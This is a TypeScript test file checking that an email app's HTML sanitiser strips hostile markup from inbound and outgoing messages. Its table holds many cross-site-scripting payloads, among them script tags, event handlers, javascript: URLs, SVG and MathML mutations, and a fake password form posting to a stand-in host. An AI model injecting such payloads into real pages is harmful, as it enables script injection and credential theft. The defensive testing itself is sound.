// HTML is safe by default: an inbound email's htmlBody is served sanitised (table-driven over
// an XSS corpus), the original stays under htmlBodyUntrusted, sanitising happens once at write
// time, and what people send (sendReply bodyHtml) goes through the same policy.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CLIPPED_NOTICE, SAFE_HTML_MAX_CHARS, sanitiseEmailHtml } from '../src/email/safe-html.js';
import { createTestApp, type TestApp } from './support/app.js';
import { createConversation, createLead, gid, rawId } from './support/factories.js';
import { inboundPayload, postWebhook } from './support/postmark-payloads.js';

let app: TestApp;
beforeAll(async () => {
  app = await createTestApp();
});
afterAll(() => app?.close());

/** [name, html, what must not survive] */
const XSS_CORPUS: [string, string, RegExp][] = [
  ['script element', '<p>Hi</p><script>alert(1)</script>', /<script|alert/i],
  ['script, upper case and split', '<SCRIPT SRC=//evil.example/x.js></SCRIPT>', /script|evil/i],
  ['img onerror', '<img src="https://example.com/a.png" onerror="alert(1)">', /onerror|alert/i],
  ['body onload', '<body onload=alert(1)><p>x</p></body>', /onload|alert/i],
  ['event handler on any tag', '<div onmouseover="alert(1)">hover</div>', /onmouseover|alert/i],
  ['javascript: link', '<a href="javascript:alert(1)">click</a>', /javascript|alert/i],
  ['javascript: with an encoded tab', '<a href="jav&#x09;ascript:alert(1)">click</a>', /ascript|alert/i],
  ['javascript: with entities', '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>', /javascript|alert|&#/i],
  ['vbscript: link', '<a href="vbscript:msgbox(1)">x</a>', /vbscript|msgbox/i],
  ['data: link', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>', /data:|PHNjcmlwdD/i],
  ['data: image (SVG)', '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">', /data:|PHN2Zy/i],
  ['CSS expression', '<div style="width: expression(alert(1))">x</div>', /expression|alert/i],
  ['CSS url(javascript:)', '<div style="background-image: url(javascript:alert(1))">x</div>', /url\(|javascript|alert/i],
  ['style element', '<style>body { background: url("javascript:alert(1)") }</style><p>x</p>', /<style|javascript|alert/i],
  ['SVG onload', '<svg onload=alert(1)><circle r="5"/></svg>', /svg|onload|alert/i],
  ['SVG script', '<svg><script>alert(1)</script></svg>', /svg|script|alert/i],
  ['SVG animate href', '<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>X</text></a></svg>', /svg|animate|javascript/i],
  ['iframe', '<iframe src="https://evil.example/"></iframe>', /iframe|evil/i],
  ['iframe srcdoc', '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>', /iframe|srcdoc|script/i],
  ['form and password input', '<form action="https://evil.example/steal"><input type="password" name="p"><button>Log in</button></form>', /<form|<input|<button|evil/i],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', /<meta|javascript|refresh/i],
  ['object and embed', '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">', /<object|<embed|evil/i],
  ['base href', '<base href="https://evil.example/"><a href="/x">x</a>', /<base|evil/i],
  ['link stylesheet', '<link rel="stylesheet" href="https://evil.example/x.css">', /<link|evil/i],
  ['MathML mutation', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>', /<math|onerror|alert/i],
  ['noscript mutation', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', /onerror|alert/i],
  ['protocol-relative image', '<img src="//evil.example/pixel.gif">', /evil/i],
  ['srcset', '<img src="https://example.com/a.png" srcset="javascript:alert(1) 1x">', /srcset|javascript/i],
];

const MessageBodies = `query ($id: ID!) { node(id: $id) { ... on ConversationMessage { htmlBody htmlBodyUntrusted fromName } } }`;

async function receive(html: string, fromName = 'Pat Lee') {
  const { prisma, devAccountId } = app.services;
  const lead = await createLead(prisma, devAccountId);
  const conversation = await createConversation(prisma, devAccountId, lead.id, { messages: [{ direction: 'OUTBOUND', at: new Date() }] });
  const posted = await postWebhook(app, 'inbound', inboundPayload({ mailboxHash: conversation.replyHash, html, fromName }));
  expect(posted.status).toBe(200);
  const messageId = rawId((posted.body as { messageId: string }).messageId);
  const read = await app.executeRaw(MessageBodies, { id: gid('ConversationMessage', messageId) });
  return { messageId, node: read.data?.node as { htmlBody: string | null; htmlBodyUntrusted: string | null; fromName: string | null } };
}

describe('inbound htmlBody is sanitised', () => {
  it.each(XSS_CORPUS)('%s: gone from htmlBody, kept in htmlBodyUntrusted', async (_name, html, forbidden) => {
    const { node } = await receive(`<p>Dear team,</p>${html}<p>Regards</p>`);
    expect(node.htmlBody).not.toMatch(forbidden);
    expect(node.htmlBody).toContain('Dear team,');
    expect(node.htmlBodyUntrusted).toBe(`<p>Dear team,</p>${html}<p>Regards</p>`);
  });

  it('keeps ordinary formatting, links (made safe to follow) and remote images by default', () => {
    const safe = sanitiseEmailHtml('<p style="color: #333; position: fixed"><b>Hello</b> <a href="https://example.com/x">site</a> <img src="https://example.com/logo.png" alt="logo"></p>');
    expect(safe).toBe(
      '<p style="color:#333"><b>Hello</b> <a href="https://example.com/x" rel="noopener noreferrer nofollow" target="_blank">site</a> <img src="https://example.com/logo.png" alt="logo" /></p>',
    );
  });

  it('clips a huge body instead of sanitising megabytes on the event loop', () => {
    const safe = sanitiseEmailHtml(`<p>${'word '.repeat(1024 * 1024)}</p><script>alert(1)</script>`);
    expect(safe.endsWith(CLIPPED_NOTICE)).toBe(true);
    expect(safe.length).toBeLessThanOrEqual(SAFE_HTML_MAX_CHARS + CLIPPED_NOTICE.length + 10);
    expect(safe).not.toMatch(/script/);
  });

  it('removes remote images when HTML_REMOTE_IMAGES=block', () => {
    expect(sanitiseEmailHtml('<p>a<img src="https://tracker.example/p.gif">b</p>', 'block')).toBe('<p>ab</p>');
  });

  it('sanitises once, when the email is received: the safe body is stored beside the original', async () => {
    const { messageId } = await receive('<p>x</p><script>alert(1)</script>');
    const row = await app.services.prisma.conversationMessage.findUniqueOrThrow({ where: { id: messageId }, select: { htmlBody: true, safeHtmlBody: true } });
    expect(row.safeHtmlBody).toBe('<p>x</p>');
    expect(row.htmlBody).toContain('<script>');
  });

  it('sanitises a row written before the column existed on its first read, and stores it', async () => {
    const { messageId } = await receive('<p>old</p>');
    await app.services.prisma.conversationMessage.update({ where: { id: messageId }, data: { safeHtmlBody: null, htmlBody: '<p>old</p><img src=x onerror=alert(1)>' } });
    const read = await app.executeRaw(MessageBodies, { id: gid('ConversationMessage', messageId) });
    expect((read.data?.node as { htmlBody: string }).htmlBody).toBe('<p>old</p><img src="x" />');
    const row = await app.services.prisma.conversationMessage.findUniqueOrThrow({ where: { id: messageId }, select: { safeHtmlBody: true } });
    expect(row.safeHtmlBody).toBe('<p>old</p><img src="x" />');
  });

  it('serves fromName as plain text without control or bidi-override characters', async () => {
    const { node } = await receive('<p>x</p>', 'Pat\u202E\u0007 <b>Lee</b>');
    expect(node.fromName).toBe('Pat <b>Lee</b>');
  });
});

describe('outgoing bodyHtml goes through the same policy', () => {
  it('sendReply sends and stores the sanitised HTML', async () => {
    const { prisma, devAccountId } = app.services;
    const lead = await createLead(prisma, devAccountId);
    const conversation = await createConversation(prisma, devAccountId, lead.id, { messages: [{ direction: 'INBOUND', at: new Date() }] });
    const sent = await app.executeRaw(
      'mutation ($input: SendReplyInput!) { sendReply(input: $input) { __typename ... on SendReplyPayload { reply { id htmlBody htmlBodyUntrusted } } } }',
      {
        input: {
          conversationId: gid('Conversation', conversation.id),
          subject: 'Re: hello',
          body: 'Hello',
          bodyHtml: '<p>Hello <a href="javascript:alert(1)">you</a></p><script>alert(2)</script>',
        },
      },
    );
    const message = (sent.data?.sendReply as { reply: { htmlBody: string; htmlBodyUntrusted: string } }).reply;
    expect(message.htmlBody).toBe('<p>Hello <a rel="noopener noreferrer nofollow" target="_blank">you</a></p>');
    // What was stored (and handed to the email provider) is already the sanitised HTML.
    expect(message.htmlBodyUntrusted).toBe(message.htmlBody);
    const outbox = await prisma.outboxEmail.findFirstOrThrow({ orderBy: { createdAt: 'desc' } });
    expect(outbox.htmlBody).not.toMatch(/script|javascript/);
  });
});
